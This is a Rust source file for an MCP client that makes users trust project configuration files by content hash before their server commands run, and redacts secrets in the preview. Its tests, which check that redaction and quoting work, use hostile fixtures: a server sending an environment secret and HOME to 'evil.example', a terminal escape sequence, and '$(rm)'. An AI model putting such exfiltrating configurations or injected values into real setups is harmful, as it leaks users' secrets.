//! Trust in project configuration files: a `.mcp.json` or `.vscode/mcp.json` found in the
//! working directory came with the checkout, and its servers are commands run as the user
//! (and URLs sent the user's variables), so umcp uses it only once the user trusts it, as
//! the editors that read these files do.
//!
//! `umcp trust [FILE]` records the file's canonical path and the SHA-256 of its content in the
//! user's state directory ([`state_dir`]); a file whose content changed is no longer trusted.
//! An untrusted file found by discovery is shown, its servers' command lines and URLs with
//! their secrets redacted, and asked about when stdin and stderr are a terminal (`y` records
//! the trust as `umcp trust` does); any other run refuses with [`UNTRUSTED`]. Nothing of the
//! file runs, and no `${VAR}` of it is expanded, before that: what is shown was parsed with
//! every variable left as its name.

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::fs::{self, OpenOptions};
use std::io::{BufRead, IsTerminal, Read, Write};
use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use umcp::{ConfigFile, Redacted, ServerConfig, ServerTransport};

use crate::args::Args;
use crate::exit::{usage, Exit};
use crate::output::{say, warn};
use crate::shown;

/// The exit code of a run refused because the project file it found is not trusted.
pub const UNTRUSTED: u8 = 5;

/// The variable that names the state directory, overriding the platform's.
pub const STATE_DIR_VARIABLE: &str = "UMCP_STATE_DIR";

/// The file of trusted configuration files, in the state directory.
const STATE_FILE: &str = "trusted.json";

/// The most files kept trusted: trusting one more forgets the one trusted longest ago.
const MAX_ENTRIES: usize = 1000;

/// The largest state file read (1000 entries take about 250 KiB).
const STATE_BYTES: u64 = 1024 * 1024;

/// The largest project file read: far more than any list of servers.
const PROJECT_BYTES: u64 = 16 * 1024 * 1024;

/// One trusted file, as the state file keeps it.
#[derive(Serialize, Deserialize, Clone)]
struct Entry {
    /// The canonical absolute path.
    path: PathBuf,
    /// The SHA-256 of the content trusted, in lowercase hex.
    sha256: String,
    /// When it was trusted, in seconds since the Unix epoch.
    #[serde(rename = "trustedAt")]
    trusted_at: u64,
}

#[derive(Serialize, Deserialize, Default)]
struct State {
    trusted: Vec<Entry>,
}

/// A project's configuration file, read once: what is hashed is what is parsed.
struct Project {
    /// The path as given or found, escaped (for messages).
    shown: String,
    canonical: PathBuf,
    text: String,
    sha256: String,
}

impl Project {
    fn file(path: &Path) -> Result<Project, Exit> {
        let shown = shown_path(path);
        let failed = |why: String| Exit(1, format!("cannot read {shown}: {why}"));
        let canonical = fs::canonicalize(path).map_err(|e| failed(e.to_string()))?;
        let mut bytes = Vec::new();
        fs::File::open(&canonical)
            .and_then(|f| f.take(PROJECT_BYTES + 1).read_to_end(&mut bytes))
            .map_err(|e| failed(e.to_string()))?;
        if bytes.len() as u64 > PROJECT_BYTES {
            return Err(failed(format!("larger than {} MiB", PROJECT_BYTES >> 20)));
        }
        let sha256 = format!("{:x}", Sha256::digest(&bytes));
        let text = String::from_utf8(bytes).map_err(|_| failed("not UTF-8 text".into()))?;
        Ok(Project {
            shown,
            canonical,
            text,
            sha256,
        })
    }

    /// The file's servers, with every variable read from the environment: only for a file
    /// that is trusted.
    fn parse(&self) -> Result<ConfigFile, Exit> {
        let workspace = workspace_folder(&self.canonical);
        let lookup = |name: &str| {
            std::env::var(name).ok().or_else(|| match name {
                "workspaceFolder" => Some(workspace.as_ref()?.display().to_string()),
                "workspaceFolderBasename" => {
                    Some(workspace.as_ref()?.file_name()?.to_string_lossy().into())
                }
                _ => None,
            })
        };
        ConfigFile::parse_with(&self.text, &lookup).map_err(|e| self.not_a_config(&e))
    }

    /// The file's servers as written, every `${VAR}` left as `${VAR}`, and the variables it
    /// would read: what is shown before the file is trusted.
    fn preview(&self) -> Result<(ConfigFile, BTreeSet<String>), Exit> {
        let asked = RefCell::new(BTreeSet::new());
        let lookup = |name: &str| {
            asked.borrow_mut().insert(name.to_owned());
            Some(format!("${{{name}}}"))
        };
        let file =
            ConfigFile::parse_with(&self.text, &lookup).map_err(|e| self.not_a_config(&e))?;
        Ok((file, asked.into_inner()))
    }

    fn not_a_config(&self, error: &umcp::Error) -> Exit {
        usage(format!(
            "{}: {}",
            self.shown,
            shown::block(&error.to_string())
        ))
    }
}

/// The folder VS Code calls `${workspaceFolder}` for the file at `path`: the one holding the
/// `.vscode` folder the file is in (as `ConfigFile::load` reads it).
fn workspace_folder(path: &Path) -> Option<PathBuf> {
    let folder = path.parent()?;
    (folder.file_name()? == ".vscode").then(|| folder.parent().map(Path::to_path_buf))?
}

/// Whether the project file is trusted, and if not, why.
#[derive(PartialEq, Eq, Debug)]
enum Verdict {
    Trusted,
    Unknown,
    Changed,
}

fn verdict(state: &State, project: &Project) -> Verdict {
    match state.trusted.iter().find(|e| e.path == project.canonical) {
        Some(entry) if entry.sha256 == project.sha256 => Verdict::Trusted,
        Some(_) => Verdict::Changed,
        None => Verdict::Unknown,
    }
}

/// The servers of the project file at `path`, found in the working directory, once it is
/// trusted: trusted already, or trusted now by the user at the terminal. `shadowed` is the
/// user's own file that it hides, if any, named in what is said.
pub fn servers_of_project(path: &Path, shadowed: Option<&Path>) -> Result<ConfigFile, Exit> {
    let project = Project::file(path)?;
    let state_file = state_file()?;
    let state = load(&state_file)?;
    let shadow = shadowed.map(|user| {
        let user = shown_path(user);
        format!("It shadows your own {user}: umcp --config {user} uses that one instead.")
    });
    let why = match verdict(&state, &project) {
        Verdict::Trusted => {
            warn(&format!(
                "umcp: using the servers of {} (this project's, trusted)",
                project.shown
            ));
            if let Some(shadow) = &shadow {
                warn(&format!("umcp: {shadow}"));
            }
            return project.parse();
        }
        Verdict::Unknown => "is not trusted",
        Verdict::Changed => "has changed since it was trusted",
    };
    let interactive = std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
    let shadow = shadow.map(|s| format!("\n{s}")).unwrap_or_default();
    if !interactive {
        return Err(Exit(
            UNTRUSTED,
            format!(
                "{} (found in this directory: {}) {why}, so none of its servers was started: \
                 they are commands run as you.\n\
                 Review it, then trust it with: umcp trust {} (or name it with --config){shadow}",
                project.shown,
                shown_path(&project.canonical),
                project.shown
            ),
        ));
    }
    let (preview, variables) = project.preview()?;
    warn(&format!(
        "umcp: {} (found in this directory: {}) {why}.{shadow}\nTrusting it lets it run, as you:\n{}",
        project.shown,
        shown_path(&project.canonical),
        describe(&preview, &variables)
    ));
    if !ask("Trust it and start its servers? [y/N] ") {
        return Err(Exit(
            UNTRUSTED,
            format!(
                "{} not trusted: none of its servers was started",
                project.shown
            ),
        ));
    }
    record(&state_file, state, &project)?;
    warn(&format!(
        "umcp: {} is trusted from now on (umcp trust --revoke {} undoes it)",
        project.shown, project.shown
    ));
    project.parse()
}

/// A path in a message: escaped, as a directory's name may hold any character.
fn shown_path(path: &Path) -> String {
    shown::line(&path.display().to_string())
}

/// Asks `question` on stderr and reads the answer from stdin: yes only for `y` or `yes`.
fn ask(question: &str) -> bool {
    let mut err = std::io::stderr().lock();
    let _ = write!(err, "{question}");
    let _ = err.flush();
    drop(err);
    let mut line = String::new();
    match std::io::stdin().lock().read_line(&mut line) {
        Ok(n) if n > 0 => matches!(line.trim().to_ascii_lowercase().as_str(), "y" | "yes"),
        _ => false,
    }
}

/// What a file runs, one line a server: its command line or URL with secrets redacted,
/// escaped; then the variables it reads.
fn describe(file: &ConfigFile, variables: &BTreeSet<String>) -> String {
    let mut lines: Vec<String> = file.servers.iter().map(describe_server).collect();
    lines.extend(
        file.errors
            .iter()
            .map(|e| format!("  {} (unusable)", shown::line(&e.to_string()))),
    );
    if lines.is_empty() {
        lines.push("  no servers".to_owned());
    }
    if !variables.is_empty() {
        let names: Vec<&str> = variables.iter().map(String::as_str).collect();
        lines.push(format!(
            "  and reads the environment variables {}",
            shown::line(&names.join(", "))
        ));
    }
    lines.join("\n")
}

fn describe_server(server: &ServerConfig) -> String {
    let mut text = match &server.transport {
        ServerTransport::Stdio(stdio) => {
            let (args, env, cwd) = (stdio.get_args(), stdio.get_envs(), stdio.get_cwd());
            let words: Vec<String> = std::iter::once(stdio.get_command().to_owned())
                .chain(Redacted::args(args).words())
                .map(|w| quoted(&w))
                .collect();
            let mut text = format!("runs {}", words.join(" "));
            if let Some(cwd) = cwd {
                text += &format!(" in {}", quoted(&cwd.display().to_string()));
            }
            if !env.is_empty() {
                let names: Vec<&str> = env.iter().map(|(k, _)| k.as_str()).collect();
                text += &format!(" with {}", names.join(", "));
            }
            text
        }
        ServerTransport::Http(http, oauth) => {
            let headers = http.get_headers();
            let mut text = format!("connects to {}", Redacted::url(http.get_url()));
            if !headers.is_empty() {
                let names: Vec<&str> = headers.iter().map(|(k, _)| k.as_str()).collect();
                text += &format!(" sending {}", names.join(", "));
            }
            if let Some(oauth) = oauth {
                text += " with OAuth";
                if let Some(file) = &oauth.workload_token_file {
                    text += &format!(", sending the file {file}");
                }
            }
            text
        }
        _ => format!("{} server", server.kind()),
    };
    if server.disabled {
        text += " (disabled)";
    }
    format!("  {}: {}", shown::line(&server.name), shown::line(&text))
}

/// `word` as a POSIX shell would need it quoted to mean itself; a redacted word as it is,
/// being no word to type.
fn quoted(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    let plain = plain || word.contains(Redacted::MARK);
    match plain {
        true => word.to_owned(),
        false => format!("'{}'", word.replace('\'', r"'\''")),
    }
}

/// `umcp trust [FILE]`, `umcp trust --list`, `umcp trust --revoke FILE`.
pub fn command(args: &Args, rest: &[&str]) -> Result<(), Exit> {
    if args.stdio.is_some() || args.url.is_some() || args.config.is_some() {
        return Err(usage(
            "trust takes the file as its argument: umcp trust [FILE]",
        ));
    }
    let flags = &args.trust;
    if (flags.list && flags.revoke.is_some()) || (flags.given() && !rest.is_empty()) {
        return Err(usage("umcp trust [FILE] | --list | --revoke FILE"));
    }
    let state_file = state_file()?;
    let mut state = load(&state_file)?;
    if flags.list {
        return list(&state, args.json);
    }
    if let Some(path) = &flags.revoke {
        // A file gone since is forgotten by the path it had.
        let canonical = fs::canonicalize(path)
            .or_else(|_| std::path::absolute(path))
            .map_err(|e| Exit(1, format!("{path}: {e}")))?;
        let before = state.trusted.len();
        state.trusted.retain(|e| e.path != canonical);
        if state.trusted.len() == before {
            return Err(Exit(1, format!("{path} is not trusted")));
        }
        save(&state_file, &state)?;
        say(&format!("{} is no longer trusted", shown_path(&canonical)));
        return Ok(());
    }
    let path = match rest.first() {
        Some(path) => PathBuf::from(path),
        None => crate::config_files::project()
            .into_iter()
            .find(|p| p.is_file())
            .ok_or_else(|| {
                let names: Vec<String> = crate::config_files::project()
                    .iter()
                    .map(|p| p.display().to_string())
                    .collect();
                usage(format!(
                    "no project configuration file here ({}): name one, umcp trust FILE",
                    names.join(", ")
                ))
            })?,
    };
    let project = Project::file(&path)?;
    // Shown as it will run, and refused when it is no configuration file at all.
    let (preview, variables) = project.preview()?;
    let already = verdict(&state, &project) == Verdict::Trusted;
    if !already {
        record(&state_file, state, &project)?;
    }
    say(&format!(
        "{} {}trusted (sha256 {}); umcp now lets it run, as you:\n{}",
        shown_path(&project.canonical),
        if already { "was already " } else { "" },
        &project.sha256[..16],
        describe(&preview, &variables)
    ));
    Ok(())
}

/// `--list`: every trusted file, and whether it is unchanged, changed or gone.
fn list(state: &State, json: bool) -> Result<(), Exit> {
    if state.trusted.is_empty() && !json {
        warn("umcp: no file is trusted");
    }
    let rows = state.trusted.iter().map(|entry| {
        let now = Project::file(&entry.path).ok().map(|r| r.sha256);
        let status = match now {
            Some(hash) if hash == entry.sha256 => "trusted",
            Some(_) => "changed",
            None => "missing",
        };
        let json = serde_json::json!({
            "path": entry.path, "sha256": entry.sha256, "trustedAt": entry.trusted_at,
            "status": status,
        });
        (json, format!("{status:<8} {}", entry.path.display()))
    });
    crate::output::Output { json }.list(rows);
    Ok(())
}

/// Adds (or renews) the trust of `project` and saves the state.
fn record(path: &Path, mut state: State, project: &Project) -> Result<(), Exit> {
    state.trusted.retain(|e| e.path != project.canonical);
    let now = SystemTime::now().duration_since(UNIX_EPOCH);
    state.trusted.push(Entry {
        path: project.canonical.clone(),
        sha256: project.sha256.clone(),
        trusted_at: now.map(|d| d.as_secs()).unwrap_or_default(),
    });
    // Oldest first: beyond the bound, the files trusted longest ago are forgotten.
    state.trusted.sort_by_key(|e| e.trusted_at);
    let over = state.trusted.len().saturating_sub(MAX_ENTRIES);
    state.trusted.drain(..over);
    save(path, &state)
}

/// Where umcp keeps its per-user state: `$UMCP_STATE_DIR`; else on Windows
/// `%LOCALAPPDATA%\umcp`, elsewhere `$XDG_STATE_HOME/umcp` (when absolute) or
/// `~/.local/state/umcp`.
pub fn state_dir() -> Option<PathBuf> {
    let var = |name: &str| {
        std::env::var_os(name)
            .filter(|v| !v.is_empty())
            .map(PathBuf::from)
    };
    if let Some(dir) = var(STATE_DIR_VARIABLE) {
        return Some(dir);
    }
    if cfg!(windows) {
        return var("LOCALAPPDATA").map(|d| d.join("umcp"));
    }
    // The XDG spec: a relative path in the variable is to be ignored.
    let xdg = var("XDG_STATE_HOME").filter(|d| d.is_absolute());
    let base = xdg.or_else(|| var("HOME").map(|h| h.join(".local/state")));
    base.map(|d| d.join("umcp"))
}

fn state_file() -> Result<PathBuf, Exit> {
    state_dir().map(|d| d.join(STATE_FILE)).ok_or_else(|| {
        Exit(
            1,
            format!("no state directory for the trusted files: set {STATE_DIR_VARIABLE} or HOME"),
        )
    })
}

/// The state at `path`: empty when the file does not exist. One that others may write is
/// refused: its trust could be theirs.
fn load(path: &Path) -> Result<State, Exit> {
    let failed = |why: String| Exit(1, format!("{}: {why}", path.display()));
    let file = match fs::File::open(path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(State::default()),
        Err(e) => return Err(failed(e.to_string())),
    };
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = file
            .metadata()
            .map_err(|e| failed(e.to_string()))?
            .permissions()
            .mode();
        if mode & 0o022 != 0 {
            return Err(failed(format!(
                "other users may write it (mode {:o}): chmod 600 it, or remove it",
                mode & 0o777
            )));
        }
    }
    let mut text = String::new();
    file.take(STATE_BYTES + 1)
        .read_to_string(&mut text)
        .map_err(|e| failed(e.to_string()))?;
    if text.len() as u64 > STATE_BYTES {
        return Err(failed(format!("larger than {} KiB", STATE_BYTES >> 10)));
    }
    serde_json::from_str(&text)
        .map_err(|e| failed(format!("not umcp's list of trusted files: {e}")))
}

/// Writes `state` to `path`: a new file of the owner's only (0600), created exclusively in a
/// directory of the owner's only (0700, created so when missing), then renamed over the old
/// one, so that no reader sees half a file. Of two umcp writing at once, the last wins.
fn save(path: &Path, state: &State) -> Result<(), Exit> {
    let failed = |what: &Path, e: std::io::Error| Exit(1, format!("{}: {e}", what.display()));
    let dir = path.parent().unwrap_or(Path::new("."));
    private_dir(dir).map_err(|e| failed(dir, e))?;
    // Only a path that is not UTF-8 fails to encode.
    let text = serde_json::to_string_pretty(state)
        .map_err(|e| Exit(1, format!("cannot record {}: {e}", path.display())))?;
    let text = text + "\n";
    let stamp = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or_default();
    let mut last = None;
    for attempt in 0..16u32 {
        let temp = dir.join(format!(
            ".{STATE_FILE}.{}.{}.tmp",
            std::process::id(),
            stamp.wrapping_add(attempt)
        ));
        match write_new(&temp, text.as_bytes()) {
            Ok(()) => {
                return fs::rename(&temp, path).map_err(|e| {
                    let _ = fs::remove_file(&temp);
                    failed(path, e)
                });
            }
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => last = Some(e),
            Err(e) => {
                let _ = fs::remove_file(&temp);
                return Err(failed(&temp, e));
            }
        }
    }
    Err(failed(
        dir,
        last.unwrap_or_else(|| std::io::Error::other("no temporary file")),
    ))
}

/// Creates `path` (which must not exist) with `data`, readable and writable by its owner
/// only, and flushes it to disk.
fn write_new(path: &Path, data: &[u8]) -> std::io::Result<()> {
    let mut options = OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    let mut file = options.open(path)?;
    file.write_all(data)?;
    file.sync_all()
}

/// Creates `dir` and its missing parents, owner-only, or checks that the existing one can be
/// written by its owner only.
fn private_dir(dir: &Path) -> std::io::Result<()> {
    if !dir.is_dir() {
        let mut builder = fs::DirBuilder::new();
        builder.recursive(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::DirBuilderExt;
            builder.mode(0o700);
        }
        return builder.create(dir);
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(dir)?.permissions().mode();
        if mode & 0o022 != 0 {
            return Err(std::io::Error::other(format!(
                "other users may write this directory (mode {:o}); chmod 700 it",
                mode & 0o777
            )));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Project {
        Project {
            shown: ".mcp.json".into(),
            canonical: PathBuf::from("/p/.mcp.json"),
            text: text.into(),
            sha256: format!("{:x}", Sha256::digest(text.as_bytes())),
        }
    }

    #[test]
    fn a_preview_expands_nothing_and_redacts_secrets() {
        std::env::set_var("UMCP_TRUST_TEST_SECRET", "the-real-value");
        let file = read(
            r#"{"mcpServers": {
                "a": {"command": "sh", "args": ["-c", "touch ran", "--token", "sk-123"]},
                "b": {"type": "http", "url": "https://u:pw@evil.example/mcp?k=v&x=${UMCP_TRUST_TEST_SECRET}",
                      "headers": {"X-Leak": "${env:HOME}"}},
                "c": {"command": "x\u001b[2J", "disabled": true},
                "d": {"args": []}
            }}"#,
        );
        let Ok((preview, variables)) = file.preview() else {
            panic!("not read as a configuration file");
        };
        let text = describe(&preview, &variables);
        assert!(!text.contains("the-real-value"), "{text}");
        assert!(!text.contains("sk-123") && !text.contains(":pw@"), "{text}");
        assert!(
            text.contains("  a: runs sh -c 'touch ran' --token <redacted>\n"),
            "{text}"
        );
        assert!(
            text.contains("  b: connects to https://u:<redacted>@evil.example/mcp?k=<redacted>&x=<redacted> sending X-Leak\n"),
            "{text}"
        );
        assert!(
            text.contains("  c: runs 'x\\u{1b}[2J' (disabled)\n"),
            "{text}"
        );
        assert!(
            text.contains("server `d`") && text.contains("(unusable)"),
            "{text}"
        );
        assert!(
            text.ends_with("and reads the environment variables HOME, UMCP_TRUST_TEST_SECRET"),
            "{text}"
        );
    }

    #[test]
    fn a_changed_file_is_not_trusted() {
        let trusted = read(r#"{"mcpServers": {}}"#);
        let mut state = State::default();
        assert_eq!(verdict(&state, &trusted), Verdict::Unknown);
        state.trusted.push(Entry {
            path: trusted.canonical.clone(),
            sha256: trusted.sha256.clone(),
            trusted_at: 1,
        });
        assert_eq!(verdict(&state, &trusted), Verdict::Trusted);
        let changed = read(r#"{"mcpServers": {"a": {"command": "sh"}}}"#);
        assert_eq!(verdict(&state, &changed), Verdict::Changed);
    }

    #[test]
    fn words_are_quoted_as_a_shell_reads_them() {
        assert_eq!(quoted("plain-word_1.2/x"), "plain-word_1.2/x");
        assert_eq!(quoted("touch ran"), "'touch ran'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("$(rm)"), "'$(rm)'");
    }
}
